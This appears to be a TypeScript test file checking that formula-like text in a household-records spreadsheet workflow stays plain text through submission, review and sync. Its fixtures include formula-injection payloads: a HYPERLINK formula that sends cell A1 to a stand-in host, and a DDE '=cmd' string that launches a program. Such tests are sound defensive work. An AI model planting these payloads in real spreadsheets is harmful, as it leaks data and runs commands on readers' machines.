import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reviewColumn, reviewSheet } from "../../../shared/tables/review/review-grid.ts";
import { columnLetters } from "../../../shared/text/spreadsheet.ts";
import { households } from "../../addin/desk/sheet.ts";
import { edit, load, look, Place } from "./cli.ts";

/** What Excel, LibreOffice or a reader of CSV files could take for a formula. */
const texts = [
  '=HYPERLINK("http://x.example/?"&A1,"Xem")',
  "=1+1",
  "+84987654321",
  "-1",
  "@SUM(A1)",
  "＝1+1",
  "|calc",
  "%0A=1",
];

let place: Place;
let ward: string;
let office: string;
let town: string;
beforeAll(async () => {
  place = new Place();
  ward = await place.template("NaLay.xlsx", "na-lay");
  office = await place.template("QLDT.xlsx", "qldt");
  town = place.file("Town.xlsx");
  await edit(ward, (hands) => {
    hands.fill(
      households(texts.length).map((row, index) => ({ ...row, note: texts[index] ?? "" })),
    );
  });
  await place.submit(ward, "na-lay");
  await place.run("review", "--file", office, "--as", "qldt", ...place.service());
  await place.run("refresh", "--out", town, "--as", "lanh-dao", ...place.service());
});
afterAll(() => {
  place.remove();
});

describe("text that looks like a formula", () => {
  it("stays as it was typed in the ward's workbook", async () => {
    const sheet = await look(ward);
    const notes = texts.map((_, index) => sheet.value("note", sheet.firstRow + index));
    expect(notes).toEqual(texts);
  });

  it("comes back as text in a colleague's workbook", async () => {
    const colleague = await place.template("NaLay2.xlsx", "na-lay");
    await place.run("sync", "--file", colleague, "--as", "na-lay", ...place.service());
    const sheet = await look(colleague);
    const notes = texts.map((_, index) => sheet.value("note", sheet.firstRow + index));
    expect(notes).toEqual(texts);
  });

  it("reaches the reviewer as text", async () => {
    const { worksheets } = await load(office);
    const cells = worksheets.find(({ name }) => name === reviewSheet)?.rows.flat() ?? [];
    const shown = cells.map((cell) => String(cell?.value ?? "")).join("\n");
    for (const text of texts) expect(shown).toContain(text);
  });

  it("is a formula nowhere", async () => {
    for (const path of [ward, office, town])
      for (const { rows } of (await load(path)).worksheets)
        for (const cell of rows.flat())
          if (cell?.formula !== undefined)
            expect(cell.formula).not.toMatch(/HYPERLINK\("http|^=1\+1|84987|SUM\(A1\)/);
  });

  it("goes through a returned row and back as text", async () => {
    await edit(office, ({ excel }) => {
      const sheet = excel.model.worksheets.find(({ name }) => name === reviewSheet);
      const first =
        sheet?.rows.findIndex((row) => String(row?.[2]?.value ?? "").startsWith("NL-")) ?? 0;
      const type = (column: "decision" | "reason", text: string) =>
        excel.person.type(
          { sheet: reviewSheet, address: `${columnLetters(reviewColumn(column))}${first + 1}` },
          text,
        );
      type("decision", "Trả lại");
      type("reason", "'=cmd|' /C calc'!A0");
    });
    const answer = await place.json(
      ...["review", "--file", office, "--as", "qldt"],
      ...place.service(),
    );
    expect(answer).toMatchObject({ accepted: 0, returned: 1, waiting: texts.length - 1 });
    await place.run("sync", "--file", ward, "--as", "na-lay", ...place.service());
    const sheet = await look(ward);
    expect(sheet.system("Ghi chú hệ thống", sheet.firstRow)).toContain("=cmd|' /C calc'!A0");
    expect(sheet.system("Trạng thái", sheet.firstRow)).toBe("Trả lại để bổ sung");
  });
});
